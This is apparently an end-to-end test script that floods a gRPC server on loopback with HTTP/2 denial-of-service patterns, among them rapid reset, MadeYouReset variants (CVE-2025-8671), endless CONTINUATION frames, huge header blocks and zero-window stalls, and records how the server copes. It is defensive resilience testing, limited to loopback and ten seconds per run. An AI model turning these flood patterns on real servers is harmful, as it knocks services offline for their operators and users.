#!/usr/bin/env python3
"""Floods of HTTP/2 frames against a server of one's own, on loopback.

    tests/e2e/floods.py NAME HOST:PORT [--seconds N] [--rate N] [--ca FILE]

Each flood keeps one or a few connections busy for at most 10 seconds, opens a new connection when
the server closes one, and prints what it sent and what the server did, as a JSON object. It does
not acknowledge the SETTINGS of the server, because gRPC enforces its limits of streams and
metadata only on connections that have acknowledged them.
flood_bench.py runs the floods and measures the server meanwhile.
"""

import argparse
import collections
import dataclasses
import ipaddress
import itertools
import json
import threading
import time
from typing import Callable

import http2
import wire

MAX_SECONDS = 10
# Floods come from an address of their own, so that a limit per address does not affect others.
SOURCE = "127.0.0.2"
BATCH_BYTES = 1 << 16
UNKNOWN = "/unknown.Service/Method"
# Encode returns 131 MB: sinusoidal, width 1024, 32000 positions.
LARGE = wire.EncodeRequest(dim=1024)
LARGE.scheme.sinusoidal.SetInParent()
LARGE.positions.range.count = 32000
ROPE = wire.CheckPropertiesRequest()
ROPE.schemes.add().rope.SetInParent()
REQUESTS = {wire.CHECK_PROPERTIES: ROPE, wire.EVALUATE: wire.EvaluateRequest(),
            wire.HEALTH_WATCH: wire.HealthCheckRequest(), UNKNOWN: wire.HealthCheckRequest(),
            wire.ENCODE: LARGE}
# 4,000 header fields of four bytes each, which fit into one frame.
TINY_FIELDS = http2.header("a", "") * 4000
# 16,000 header fields of one byte each: an entry of HPACK's static table, accept-charset.
INDEXED_FIELDS = b"\x8f" * 16000


def stream_ids():
    return itertools.count(1, 2)


def calls(connection, path):
    """Yields (stream, the frames of a call with its message)."""
    block = http2.call_block(path, scheme=connection.scheme)
    message = http2.message(REQUESTS[path].SerializeToString())
    for stream in stream_ids():
        yield stream, http2.headers(stream, block) + http2.data(stream, message, end=True)


# Each function below takes a connection and yields what the flood repeats, one unit at a time.

def reset_of(path):
    def units(connection):
        for stream, call in calls(connection, path):
            yield call + http2.rst_stream(stream)
    return units


def made_reset(mistake):
    """Calls followed by a mistake for which the server has to reset the stream (CVE-2025-8671)."""
    def units(connection):
        for stream, call in calls(connection, wire.CHECK_PROPERTIES):
            yield call + mistake(stream)
    return units


def made_reset_by_data(payload, flags=0):
    """The same, where the message itself is the mistake."""
    def units(connection):
        block = http2.call_block(wire.CHECK_PROPERTIES, scheme=connection.scheme)
        for stream in stream_ids():
            yield (http2.headers(stream, block) +
                   http2.frame(http2.DATA, http2.END_STREAM | flags, stream, payload))
    return units


def continuation(size):
    """One header block that never ends, in frames of this size."""
    def units(connection):
        block = http2.call_block(wire.LIST_SCHEMES, scheme=connection.scheme)
        yield http2.frame(http2.HEADERS, 0, 1, block)
        unit = http2.frame(http2.CONTINUATION, 0, 1, http2.header("x", "a" * (size - 5)))
        while True:
            yield unit
    return units


def one_byte_continuation(connection):
    """One header value that never ends, in frames of one byte."""
    block = http2.call_block(wire.LIST_SCHEMES, scheme=connection.scheme)
    # The length of the value announces 2^27 characters.
    yield http2.frame(http2.HEADERS, 0, 1, block + b"\0\x01x" + b"\x7f\x81\xff\xff\x3f")
    unit = http2.frame(http2.CONTINUATION, 0, 1, b"a")
    while True:
        yield unit


def many_fields(fields, resets):
    def units(connection):
        block = http2.call_block(wire.LIST_SCHEMES, scheme=connection.scheme) + fields
        for stream in stream_ids():
            yield http2.headers(stream, block) + (http2.rst_stream(stream) if resets else b"")
    return units


def large_headers(connection):
    block = http2.call_block(wire.LIST_SCHEMES, ("x", "a" * (1 << 20)), scheme=connection.scheme)
    for stream in stream_ids():
        yield http2.headers(stream, block) + http2.rst_stream(stream)


def open_streams(connection):
    """Streams that stay open, many more than the server allows."""
    block = http2.call_block(wire.LIST_SCHEMES, scheme=connection.scheme)
    for stream in stream_ids():
        yield http2.headers(stream, block)


def open_watches(connection):
    """The same, with calls that the server answers but does not end."""
    for _, call in calls(connection, wire.HEALTH_WATCH):
        yield call


def missing_messages(connection):
    """Calls of which only the headers arrive."""
    block = http2.call_block(wire.ENCODE, scheme=connection.scheme)
    for stream in stream_ids():
        yield http2.headers(stream, block)


def large_responses(connection):
    yield http2.window_update(0, http2.MAX_WINDOW - http2.DEFAULT_WINDOW)
    for _, call in itertools.islice(calls(connection, wire.ENCODE), 8):
        yield call


def data_frames(payload):
    """A message of 64 MiB in small frames."""
    def units(connection):
        yield http2.headers(1, http2.call_block(wire.ENCODE, scheme=connection.scheme))
        yield http2.data(1, b"\0\x04\0\0\0")
        unit = http2.data(1, payload)
        while True:
            yield unit
    return units


def repeated(unit):
    return lambda connection: itertools.repeat(unit)


@dataclasses.dataclass(frozen=True)
class Flood:
    """A flood: what it repeats, and how its connections behave."""
    text: str
    units: Callable
    connections: int = 1
    rate: float = 0  # units per second over all connections; 0 is as many as possible
    settings: dict = dataclasses.field(default_factory=dict)
    reads: bool = True


OVERFLOW = http2.MAX_WINDOW
FLOODS = {
    "reset_check_properties": Flood("rapid reset, CheckProperties",
                                    reset_of(wire.CHECK_PROPERTIES)),
    "reset_evaluate": Flood("rapid reset, EvaluateExtrapolation", reset_of(wire.EVALUATE)),
    "reset_watch": Flood("rapid reset, health Watch", reset_of(wire.HEALTH_WATCH)),
    "reset_unknown": Flood("rapid reset, unknown method", reset_of(UNKNOWN)),
    "made_reset_window": Flood("MadeYouReset: window overflow",
                               made_reset(lambda s: http2.window_update(s, OVERFLOW) * 2)),
    "made_reset_zero_window": Flood("MadeYouReset: window update of 0",
                                    made_reset(lambda s: http2.window_update(s, 0))),
    "made_reset_priority": Flood("MadeYouReset: PRIORITY of the wrong length",
                                 made_reset(lambda s: http2.frame(http2.PRIORITY, 0, s, b"1234"))),
    "made_reset_dependency": Flood("MadeYouReset: stream that depends on itself",
                                   made_reset(lambda s: http2.priority(s, depends_on=s))),
    "made_reset_data": Flood("MadeYouReset: DATA after the end",
                             made_reset(lambda s: http2.data(s, b"more"))),
    "made_reset_headers": Flood("MadeYouReset: HEADERS after the end",
                                made_reset(lambda s: http2.headers(s, http2.header("a", "b")))),
    "made_reset_prefix": Flood("MadeYouReset: invalid message prefix",
                               made_reset_by_data(b"\xff\xff\xff\xff\xff")),
    "made_reset_padding": Flood("MadeYouReset: padding longer than the frame",
                                made_reset_by_data(b"\xff\0", http2.PADDED)),
    "continuation": Flood("CONTINUATION frames of 1 KiB without end", continuation(1024)),
    "tiny_fields": Flood("headers of 4,000 tiny fields, reset", many_fields(TINY_FIELDS, True)),
    "large_headers": Flood("headers of 1 MiB, reset", large_headers),
    "open_streams": Flood("streams without limit", open_streams),
    "open_watches": Flood("Watch streams without limit", open_watches),
    "open_tiny_fields": Flood("headers of 4,000 tiny fields, not reset",
                              many_fields(TINY_FIELDS, False), rate=250),
    "open_indexed_fields": Flood("headers of 16,000 fields of one byte, not reset",
                                 many_fields(INDEXED_FIELDS, False), rate=250),
    "missing_messages": Flood("calls whose message never arrives", missing_messages,
                              connections=3, rate=200),
    "zero_window": Flood("large responses to a window of 0", large_responses, connections=2,
                         settings={http2.INITIAL_WINDOW_SIZE: 0}),
    "stopped_reader": Flood("large responses that are not read", large_responses, connections=2,
                            settings={http2.INITIAL_WINDOW_SIZE: http2.MAX_WINDOW}, reads=False),
    "one_byte_data": Flood("DATA frames of one byte", data_frames(b"a")),
    "empty_data": Flood("empty DATA frames", data_frames(b"")),
    "one_byte_continuation": Flood("CONTINUATION frames of one byte", one_byte_continuation),
    "ping": Flood("PING frames", repeated(http2.ping())),
    "settings": Flood("SETTINGS frames", repeated(http2.settings({http2.ENABLE_PUSH: 0}))),
}


class Attack:
    """Runs one flood and counts what it sent."""

    def __init__(self, flood, host, port, seconds, *, rate=None, context=None,
                 acknowledges=False):
        if not ipaddress.ip_address(host).is_loopback:
            raise ValueError(f"floods run on loopback only, not against {host}")
        self.flood, self._address, self._context = flood, (host, port), context
        self._acknowledges = acknowledges
        self._rate = (flood.rate if rate is None else rate) / flood.connections
        self._start = time.monotonic()
        self._end = self._start + min(seconds, MAX_SECONDS)
        self._lock = threading.Lock()
        self.units = self.bytes = self.connections = self.refused = 0
        self.ends = []  # (age, how) of each connection that the server has ended
        self.received = collections.Counter()

    def run(self):
        threads = [threading.Thread(target=self._repeat) for _ in range(self.flood.connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        seconds = time.monotonic() - self._start
        first = self.ends[0] if self.ends else (None, None)
        return {"seconds": seconds, "units": self.units, "rate": self.units / seconds,
                "bytes": self.bytes, "connections": self.connections, "refused": self.refused,
                "ended": len(self.ends), "first_ended_seconds": first[0],
                "first_ended_by": first[1], "received": dict(self.received)}

    def _repeat(self):
        while time.monotonic() < self._end:
            try:
                connection = http2.Connection(
                    *self._address, values=self.flood.settings, context=self._context,
                    source=SOURCE, reads=self.flood.reads, acknowledges=self._acknowledges)
            except OSError:
                with self._lock:
                    self.refused += 1
                time.sleep(0.01)  # The server may have reached its limit of connections.
                continue
            with connection:
                self._use(connection)

    def _use(self, connection):
        try:
            self._send_units(connection)
            connection.wait(self._end)
        except http2.Closed:
            pass
        with self._lock:
            self.connections += 1
            self.received.update(connection.received)
            if connection.goaway:
                self.ends.append((connection.goaway_at - connection.opened_at,
                                  f"GOAWAY {connection.goaway[0]}"))
            elif connection.closed_at:
                self.ends.append((connection.closed_at - connection.opened_at, "close"))

    def _send_units(self, connection):
        batch, size, made = [], 0, 0
        start = time.monotonic()
        for unit in self.flood.units(connection):
            batch.append(unit)
            size += len(unit)
            made += 1
            ahead = self._rate and made >= (time.monotonic() - start) * self._rate
            if not ahead and size < BATCH_BYTES and len(batch) < 1000:
                continue
            self._send(connection, batch)
            if time.monotonic() >= self._end:
                return
            batch, size = [], 0
            if ahead:
                connection.wait(min(self._end, start + made / self._rate))
        self._send(connection, batch)

    def _send(self, connection, batch):
        frames = b"".join(batch)
        sent = connection.send(frames, self._end)
        with self._lock:
            self.units += len(batch) if sent == len(frames) else len(batch) * sent // len(frames)
            self.bytes += sent


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=FLOODS)
    parser.add_argument("address", help="an address of loopback, as 127.0.0.1:50051")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--rate", type=float, help="units per second; 0 is as many as possible")
    parser.add_argument("--ca", help="connects with TLS and trusts this authority")
    parser.add_argument("--acknowledge", action="store_true",
                        help="acknowledges the server's SETTINGS, which puts its limits in force")
    flags = parser.parse_args()
    context = http2.tls_context(flags.ca) if flags.ca else None
    host, port = flags.address.rsplit(":", 1)
    attack = Attack(FLOODS[flags.name], host, int(port), flags.seconds, rate=flags.rate,
                    context=context, acknowledges=flags.acknowledge)
    print(json.dumps(attack.run()))


if __name__ == "__main__":
    main()
